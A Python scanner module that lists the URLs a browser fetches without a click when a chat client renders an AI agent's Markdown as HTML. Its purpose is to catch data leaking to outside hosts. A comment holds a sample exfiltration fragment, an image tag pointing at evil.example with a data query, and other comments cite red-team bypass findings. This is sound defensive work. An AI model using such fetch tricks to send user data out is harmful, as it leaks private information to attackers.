"""What a browser fetches, unclicked, when it shows a piece of HTML, and where each URL goes.

A chat client renders an agent's Markdown to HTML and shows it: every image, stylesheet, frame,
media poster or refresh in that HTML is requested before anyone clicks, so a URL there sends
what it holds (in its query or its path) to its host. This module reads HTML with the standard
library's tokenizer (``html.parser``, which decodes character references in attribute values by
HTML5's rules), a style sheet's ``url()`` as ``stylesheets.py`` does, a ``data:`` URL's document
as ``data_documents.py`` finds it, and resolves each URL as a browser does (``urls.py``).

``html.parser`` is not HTML5's tree builder: it ends a comment, a CDATA section or a ``<script>``
where a browser may not (``<!-->`` opens a comment it closes at the next ``-->``; a browser shows
the ``<img>`` after it). So what it takes for a comment, a declaration or raw text is read again
as HTML: wider than any browser, never narrower. Where it reads markup a browser reads as raw text
(``<textarea>``, ``<title>``, ``<iframe>``, ``<xmp>``, ``<noembed>``, ``<noframes>``, a scripting
client's ``<noscript>``), a browser ends that text at the first ``</name`` and a blank, ``/`` or
``>``, quoted or not: unless ``html.parser`` saw an end tag there, the HTML from there is read
again (both readings of ``<noscript>`` count). Raw text never closed runs to the HTML's end.
Script is not run: a ``<script>``'s or an event handler's text is read as HTML for its tags.
"""

from __future__ import annotations

import bisect
import collections
import itertools
import re
from collections.abc import Iterable, Iterator
from html import unescape
from typing import NamedTuple

from hotplex.scanning import data_documents, raw_text, stylesheets, urls
from hotplex.scanning.html_reader import HTMLReader

# Attributes whose URL any element's rendering fetches (``background`` on body, table, td; SVG's
# ``href`` on <image>, <use>, <feImage>), and per element those it fetches besides.
_ANY_ELEMENT = ("background",)
_BY_ELEMENT = {
    # attributionsrc: Chrome's Attribution Reporting requests each URL of it in the background.
    "img": ("src", "srcset", "lowsrc", "dynsrc", "attributionsrc"),
    "image": ("href", "xlink:href", "src"),
    "use": ("href", "xlink:href"),
    "feimage": ("href", "xlink:href"),
    "source": ("src", "srcset"),
    "video": ("src", "poster"),
    "audio": ("src",),
    "track": ("src",),
    "input": ("src",),  # <input type=image>
    "iframe": ("src",),
    "frame": ("src",),
    "embed": ("src",),
    "object": ("data", "codebase"),
    "script": ("src", "href", "xlink:href", "attributionsrc"),  # SVG's <script> takes href
    "mglyph": ("src",),  # MathML's glyph image (Firefox loads it)
    "link": ("href", "imagesrcset"),  # any rel: stylesheet, preload, icon, prefetch …
    "base": ("href",),  # moves every relative URL of the page to its host
}
_SRCSETS = ("srcset", "imagesrcset")
# Attributes read as CSS: style, and SVG's whose url() is fetched (paint, mask…: adversary12 D5).
_MARKERS = ("marker-start", "marker-mid", "marker-end")
_CSS_VALUED = frozenset(
    ("style", "fill", "stroke", "clip-path", "mask", "filter", "cursor", *_MARKERS)
)
# SVG animations (SMIL) that set an attribute on load; when it is an address (``href``) of an
# <image>, <use> or <feImage>, each value it sets is fetched, and each url() of the CSS it sets
# an attribute read as CSS to (``fill``, ``mask``, ``style``…).
_ANIMATIONS = ("set", "animate")
_ANIMATED_VALUES = ("to", "from", "by", "values")
# An attribute's value as written in a tag the tokenizer read, to place a URL it decoded.
_ATTRIBUTE_VALUE = re.compile(r"""=[ \t\n\r\f]*(?:"([^"]*)"|'([^']*)'|([^ \t\n\r\f>]+))""")


class Fetch(NamedTuple):
    """A URL the HTML fetches without a click, as written (references decoded) and resolved."""

    written: str
    url: str  # resolved against urls.PAGE
    host: str  # "" for a URL with no host (data:, javascript:)
    at: int  # offset in the HTML of the tag (or text) that holds it
    end: int  # and where that tag (or text) ends
    nested: bool = False  # fetched by a document nested in that tag (decoded: seldom written)


class Seen(NamedTuple):
    fetches: list[Fetch]  # every URL the HTML fetches when shown
    links: list[tuple[str, int]]  # each <a>'s href (a link preview fetches it), with its offset
    unread: int | None = None  # where markup nested past the readings' budget was left unread


# How much the readings of one piece of HTML may read in all, raw text read again included:
# enough for any markup a person writes many times over; raw text nested inside raw text
# thousands deep (each level read again to the end) would otherwise cost the square of its size.
_READ_FACTOR = 16
_READ_SLACK = 1 << 18


# How deep documents may nest in attributes (an <iframe srcdoc>'s, a data: URL's) before the
# guard stops reading: each level escapes the next, so a megabyte nests a thousand deep.
_NESTED_DOCUMENTS = 8


# What the page after a piece of HTML may hold that finishes its last tag: a quote of either kind
# (ending an attribute's value) and a ">" (`<img src="https://evil.example/?d=` then `</user>`).
FINISHED = "\"'>"


def read(html: str, depth: int = 0, budget: Budget | None = None) -> Seen:
    """What ``html`` fetches when shown, and its links, each with the offset of its tag;
    ``depth``: how many documents it is nested in. A text of the guard's (depth 0) is a piece
    of a page that goes on: a tag it leaves unfinished is finished by what the page puts next
    (the ``>`` of a section's end tag, a quote of the next file), so it is read with
    ``FINISHED`` after it; a nested document is whole, and a browser drops its unfinished tag.
    ``budget``: the one of the text it is nested in, which its reading is charged to."""
    if depth == 0:
        html += FINISHED
    if budget is None:
        budget = Budget(_READ_FACTOR * len(html) + _READ_SLACK)
    readings = _Readings(html, depth, budget)
    whole = _Collector(readings)
    whole.read(html, 0)
    while readings.pending:  # a loop, not a recursion: raw text may nest deeper than the stack
        text, base, start, end = readings.pending.popleft()
        if (base + start, base + end) in readings.done:
            continue
        if budget.spent > budget.limit:
            readings.note_unread(base + start)
            break
        readings.done.add((base + start, base + end))
        whole.merge(text[start:end], base + start)
    return Seen(whole.found, whole.links, readings.unread)


class Budget:
    """How much the readings of one text may read, the documents nested in it included (a
    ``data:`` URL's style sheet, an ``<iframe srcdoc>``), and how much they read so far."""

    def __init__(self, limit: int) -> None:
        self.limit = limit
        self.spent = 0


class _Readings:
    """What every reading of one piece of HTML shares: the places a browser ends raw text where
    a reading saw no end tag (each read again once, from there), and the offsets where a reading
    to the HTML's end stood between tags: a later reading that stands between tags there too
    would read on as that one did, so it stops (each raw-text trick costs one reading of the
    span it disagrees over, not of the rest of the HTML).

    Raw text read again opens raw text again: prose mentioning ``<style>`` a hundred times is a
    hundred readings, each in a ``<style>``'s text to the end. What each adds is the markup it
    reads before its raw text and the style sheet from there, the tail of one already read, so
    what counts against the budget (its ``spent``) is that markup at its cost, the raw text at
    html.parser's (one search for its end) the first time it is read (``raw_text``), and the
    style sheet from where its tokens stop agreeing with one already read (``stylesheet``)."""

    def __init__(self, html: str, depth: int, budget: Budget) -> None:
        self.size = len(html)
        self.raw_ends = raw_text.Ends(html)
        self._raw_charged = raw_text.Charged()
        self.depth = depth
        self.budget = budget
        self.unread: int | None = None  # the first place left unread, if any
        # What is left to read again: (text, its offset, the span of it to read).
        self.pending: collections.deque[tuple[str, int, int, int]] = collections.deque()
        self.done: set[tuple[int, int]] = set()
        self.clean: list[int] = []  # sorted, each once: a set's too (``_clean``)
        self._clean: set[int] = set()
        self._sheets = stylesheets.Known()

    def charge(self, read: int, raw: list[tuple[int, int]]) -> None:
        """Count a reading of ``read`` characters, ``raw`` the spans of them it took for raw
        text, at what raw text costs (``raw_text.Charged``)."""
        held = sum(end - start for start, end in raw)
        self.budget.spent += read - held + self._raw_charged.cost(raw)

    def stylesheet(self, css: str, base: int) -> list[tuple[str, int]]:
        """Each ``url()`` and string of the style sheet ``css`` (at ``base``) with its offset,
        but those a style sheet read before found (``stylesheets.Known``)."""
        values, read = self._sheets.read(css, base)
        self.budget.spent += read
        return values

    def css(self, value: str) -> list[str]:
        """Each ``url()`` and string of an attribute's CSS (``style``, SVG's ``fill``…), its
        reading charged as a style sheet's is."""
        self.budget.spent += stylesheets.RATE * len(value)
        return stylesheets.urls(value)

    def note_unread(self, at: int) -> None:
        self.unread = at if self.unread is None else min(self.unread, at)

    def note_clean(self, collector: _Collector, base: int, length: int) -> None:
        if base + length == self.size:  # each new one put in place: a re-sort each is the square
            for at in collector.clean - self._clean:
                bisect.insort(self.clean, at)
            self._clean |= collector.clean


class _Collector(HTMLReader):
    def __init__(self, readings: _Readings) -> None:
        super().__init__()
        self.found: list[Fetch] = []
        self.links: list[tuple[str, int]] = []
        self.clean: set[int] = set()  # offsets (in the whole HTML) of tags read from no raw text
        self._readings = readings
        self._base = 0  # offset in the whole HTML of what this parser is fed
        self._html = ""
        self._lines: list[int] = [0]
        self._raw_text: str | None = None  # the element whose raw text (style, script) is read
        self._raw_ends: set[int] = set()  # where a browser ends an element's raw text
        self._end_tags: set[int] = set()  # where this reading saw an end tag
        self._raw_spans: list[tuple[int, int]] = []  # what it read as raw text (in the whole)

    def read(self, html: str, base: int) -> None:
        """Read ``html`` (at ``base`` in the whole HTML) up to the first tag where it stands
        between tags as the whole reading does (from there on both read alike), or to its end."""
        self._base, self._html = base, html
        self._lines = [0]  # counted as far as read (``_offset``): a reading may stop early
        clean, start = self._readings.clean, 0
        first, last = bisect.bisect_right(clean, base), bisect.bisect_left(clean, base + len(html))
        tags_end = html.rfind(">") + 1
        for cut in itertools.chain((clean[i] - base for i in range(first, last)), [len(html)]):
            self._feed(html, start, cut, tags_end)
            start = cut
            if not self.rawdata and self.cdata_elem is None:
                break
        self.close()
        if self.cdata_elem is not None and self.rawdata:
            # A browser's raw text never closed runs to the document's end; html.parser keeps
            # it back, waiting for an end tag.
            self.handle_data(self.rawdata)
        self._readings.charge(start, self._raw_spans)  # as far as it read, not to the end
        self._readings.note_clean(self, base, len(html))
        for end in sorted(self._raw_ends - self._end_tags):
            self._readings.pending.append((html, base, end, len(html)))

    def _feed(self, html: str, start: int, end: int, tags_end: int) -> None:
        """Feed ``html[start:end]``, but past ``tags_end`` (its last ">") only raw text: no tag
        ends there (a browser drops the tag the text ends in) and other text fetches nothing,
        while html.parser looks for the end of each "<" there to the text's end: the square of
        its length (4,000 "<img " took 3 s)."""
        if start < tags_end:
            self.feed(html[start : min(end, tags_end)])
        if end > tags_end and self.cdata_elem is not None:
            self.feed(html[max(start, tags_end) : end])

    def merge(self, html: str, base: int) -> None:
        """Read ``html`` (at ``base`` in the whole HTML) again, its fetches and links as ours."""
        inner = _Collector(self._readings)
        inner.read(html, base)
        self.found += inner.found
        self.links += inner.links

    def _offset(self) -> int:
        line, column = self.getpos()
        while len(self._lines) < line:
            self._lines.append(self._html.index("\n", self._lines[-1]) + 1)
        return self._base + self._lines[line - 1] + column

    def _again(self, text: str, skipped: int) -> None:
        """Read ``text`` (what the tokenizer took for a comment or raw text) as HTML too."""
        if "<" not in text and "url" not in text.casefold() and "\\" not in text:
            return
        self._readings.pending.append((text, self._offset() + skipped, 0, len(text)))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        at = self._offset()
        self.clean.add(at)
        end = at + len(self.get_starttag_text() or "")
        wanted = _BY_ELEMENT.get(tag, ())
        refresh = tag == "meta" and any(
            name == "http-equiv" and (value or "").strip().lower() == "refresh"
            for name, value in attrs
        )
        for name, value in attrs:
            if value is None:
                continue
            if name in wanted or name in _ANY_ELEMENT:
                for written in _urls_of(name, value):
                    self._add(written, at, end)
            elif name in _CSS_VALUED:
                for written in self._readings.css(value):
                    self._add(written, at, end)
            elif name == "content" and refresh:
                self._add(refresh_url(value), at, end)
            elif name == "srcdoc":  # an <iframe>'s document, shown as the page is
                self._elsewhere(value, at, end)
            elif name == "href" and tag == "a":
                self.links.append((value, at))
            elif name.startswith("on"):  # an event handler: script, read as <script>'s text is
                self._script(value, at, end)
        if tag in _ANIMATIONS:
            self._animated(_animated_attributes(attrs), attrs, at, end)
        if tag in raw_text.ELEMENTS:
            ends = self._readings.raw_ends.end(tag, end, self._base + len(self._html))
            if ends is not None:
                self._raw_ends.add(ends - self._base)
        self._raw_text = tag if tag in ("style", "script") else None

    def _animated(
        self, animated: set[str], attrs: list[tuple[str, str | None]], at: int, end: int
    ) -> None:
        """Each value an SVG animation sets an attribute of ``animated`` to on load, read as
        that attribute's own value is: an address, or CSS (``fill``, ``mask``, ``style``…:
        adversary13 D1)."""
        for name, value in attrs:
            if name not in _ANIMATED_VALUES or value is None:
                continue
            if animated & {"href", "xlink:href"}:
                for written in value.split(";") if name == "values" else (value,):
                    self._add(written.strip(), at, end)
            if animated & _CSS_VALUED:  # a "values" list read whole: its url() are all there
                for written in self._readings.css(value):
                    self._add(written, at, end)

    def _elsewhere(self, html: str, at: int, end: int) -> None:
        """The fetches of ``html`` read on its own (an attribute's value, decoded: its offsets
        are not the text's), each placed at the tag that holds it."""
        readings = self._readings
        if readings.depth >= _NESTED_DOCUMENTS or readings.budget.spent > readings.budget.limit:
            readings.note_unread(at)
            return
        seen = read(html, readings.depth + 1, readings.budget)
        self.found += [f._replace(at=at, end=end, nested=True) for f in seen.fetches]
        if seen.unread is not None:
            self._readings.note_unread(at)

    def _script(self, value: str, at: int, end: int) -> None:
        """An event handler's script, as a ``<script>``'s text: a tag it holds is read as HTML
        (``_again``), what it fetches as it runs is not guessed."""
        if "<" in value:
            self._elsewhere(value, at, end)

    def set_cdata_mode(self, elem: str, **options: bool) -> None:
        """Raw text's end, looked for once however often it is read (``raw_text.Searched``)."""
        super().set_cdata_mode(elem, **options)
        if self.interesting.pattern.startswith("</"):
            ends = self._readings.raw_ends
            self.interesting = raw_text.Searched(self.interesting, ends, self._offset)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("style", "script"):
            # A browser ignores the "/" of an HTML element that is not void: ``<style/>``
            # opens raw text as ``<style>`` does, where html.parser takes it for empty.
            self.set_cdata_mode(tag)
        else:
            self._raw_text = None

    def handle_data(self, data: str) -> None:
        if self.cdata_elem is not None:
            at = self._offset()
            self._raw_spans.append((at, at + len(data)))
        if self._raw_text == "style":
            at = self._offset()
            for written, place in self._readings.stylesheet(data, at):
                self._add(written, place, at + len(data))
        if self._raw_text is not None:
            self._again(data, 0)

    def handle_endtag(self, tag: str) -> None:
        at = self._offset()
        self._end_tags.add(at - self._base)
        if self._raw_text is None:
            self.clean.add(at)
        self._raw_text = None

    def handle_comment(self, data: str) -> None:
        # after "<!--", or the "<!" or "</" of a bogus comment (``<!x>``, ``</ x>``)
        self._again(
            data, 4 if self._readings.raw_ends.html.startswith("<!--", self._offset()) else 2
        )

    def parse_marked_section(self, i: int, report: int = 1) -> int:
        """A marked section html.parser does not know (``<![>``, ``<![x>``) is what a browser
        reads it as, a bogus comment to the next ">": html.parser raised AssertionError, and
        four bytes of a user's memory crashed every compile and check of that user."""
        try:
            return super().parse_marked_section(i, report)
        except AssertionError:
            return self.parse_bogus_comment(i)

    def handle_decl(self, decl: str) -> None:
        self._again(decl, 2)

    def unknown_decl(self, data: str) -> None:
        self._again(data, 3)

    def handle_pi(self, data: str) -> None:
        self._again(data, 2)

    def _add(self, written: str, at: int, end: int) -> None:
        resolved = urls.resolve(written)
        if resolved is not None:
            self.found.append(Fetch(written, resolved[0], resolved[1], at, end))
            for document, whole in data_documents.documents(resolved[0]):  # it loads and fetches
                if not whole:
                    self._readings.note_unread(at)
                self._elsewhere(document, at, end)


class Cursor:
    """Where each URL a tag fetches is written in it, searched in the text from where the last
    one of that tag was found: a tag's URLs come in the order written, and those of a document
    nested in it (a ``data:`` URL's, decoded; placed with a cursor of their own) are written
    nowhere, so a tag costs one search that fails, not one per URL (20,000 ``url()`` of a
    ``data:`` style sheet each searched its 320 KB: 12 s, adversary13 D6). Searched as the tag
    reads (``urls.Written``). ``searched``: the characters looked through."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.searched = 0
        self._next: dict[int, int] = {}  # by a tag's start: where its next search begins, or -1
        self._read = urls.Written(text)

    def find(self, needles: Iterable[str], start: int, end: int) -> tuple[int, int] | None:
        """Where the first of ``needles`` written in ``text[start:end]`` (past the last one
        found there) is; None, and each later search there too, once none is."""
        at = self.position(start)
        if at < 0:
            return None
        for needle in needles:
            found = self._read.find(needle, start, at, end) if needle else None
            self.searched += end - at if found is None else found[1] - at
            if found is not None:
                self._next[start] = found[1]
                return found
        self._next[start] = -1
        return None

    def place(self, url: str, start: int, end: int) -> tuple[int, int]:
        """Where in the tag ``text[start:end]`` the URL ``url`` (references decoded) is written:
        as it is, or as an attribute's whole value, past the URL placed before it; else the
        whole tag."""
        after = self.position(start)
        if after < 0:
            return start, end
        found = self.find((url,), start, end)
        if found is not None:
            return found
        for value in _ATTRIBUTE_VALUE.finditer(self.text, after, end):
            group = next(g for g in (1, 2, 3) if value.group(g) is not None)
            if unescape(value.group(group)).strip() == url:
                self.moved(start, value.end(group))
                return value.start(group), value.end(group)
        self.searched += end - after
        return start, end

    def position(self, start: int) -> int:
        """Where the next search in the tag at ``start`` begins (-1: none, one failed there)."""
        return self._next.get(start, start)

    def moved(self, start: int, to: int) -> None:
        """The next search in the tag at ``start`` begins at ``to`` (found there otherwise)."""
        self._next[start] = to


def _animated_attributes(attrs: list[tuple[str, str | None]]) -> set[str]:
    """The attribute an SVG animation sets (each ``attributeName`` it is written with)."""
    return {(value or "").strip().lower() for name, value in attrs if name == "attributename"}


def _urls_of(attribute: str, value: str) -> Iterator[str]:
    """The URLs an attribute's value names: a ``srcset``'s, ``attributionsrc``'s (a list
    separated by white space), or the value."""
    if attribute in _SRCSETS:
        return _srcset(value)
    return iter(value.split() if attribute == "attributionsrc" else (value,))


def _srcset(value: str) -> Iterator[str]:
    """The URLs of a ``srcset`` ("URL 2x, URL 640w") as HTML's parser reads them: a candidate's
    URL runs to white space (a ``data:`` URL's commas in it), less the commas it ends with, and
    its descriptors to the next comma outside parentheses (adversary13 D8)."""
    at = 0
    while (at := _SRCSET_GAP.match(value, at).end()) < len(value):
        url = _SRCSET_URL.match(value, at)
        at = url.end()
        yield url.group().rstrip(",")
        if not url.group().endswith(","):
            at = _SRCSET_DESCRIPTORS.match(value, at).end()


_SRCSET_GAP = re.compile(r"[\t\n\f\r ,]*")
_SRCSET_URL = re.compile(r"[^\t\n\f\r ]+")
_SRCSET_DESCRIPTORS = re.compile(r"(?:[^,(]|\([^)]*\)?)*")


def refresh_url(content: str) -> str:
    """The URL of a ``<meta http-equiv=refresh content="0; url=…">``: after the delay and an
    optional ``url=``, as HTML's refresh parsing reads it (quotes dropped)."""
    rest = content.lstrip(" \t\n\f\r0123456789.")
    rest = rest.lstrip(" \t\n\f\r;,")
    if rest[:3].lower() == "url":
        after = rest[3:].lstrip(" \t\n\f\r")
        if after.startswith("="):
            rest = after[1:].lstrip(" \t\n\f\r")
    if rest[:1] in ("'", '"'):
        rest = rest[1:].split(rest[0], 1)[0]
    return rest.strip()
